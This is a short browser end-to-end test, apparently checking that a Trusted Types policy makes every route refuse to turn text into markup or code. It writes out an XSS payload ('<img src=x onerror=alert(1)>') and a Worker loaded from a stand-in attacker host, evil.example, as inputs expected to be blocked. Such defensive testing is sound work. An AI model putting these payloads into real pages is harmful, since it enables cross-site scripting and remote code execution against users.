import { expect, unwatched as test } from "../../kit/journey.ts";
import { routes } from "../../kit/routes.ts";

// Not the test of journey.ts, since here the browser's refusal is wanted.
test("no page lets a text become markup or code", async ({ page }) => {
  for (const { path } of routes) {
    await page.goto(path);
    const attempts = await page.evaluate(() => {
      const refused = (act: () => void) => {
        try {
          act();
          return "done";
        } catch (error) {
          return (error as Error).name;
        }
      };
      return [
        refused(() => (document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>")),
        refused(() => (document.createElement("script").src = "/assets/x.js")),
        refused(() => void new Worker("https://evil.example/x.js")),
      ];
    });

    expect(attempts, path).toEqual(["TypeError", "TypeError", "TypeError"]);
  }
});
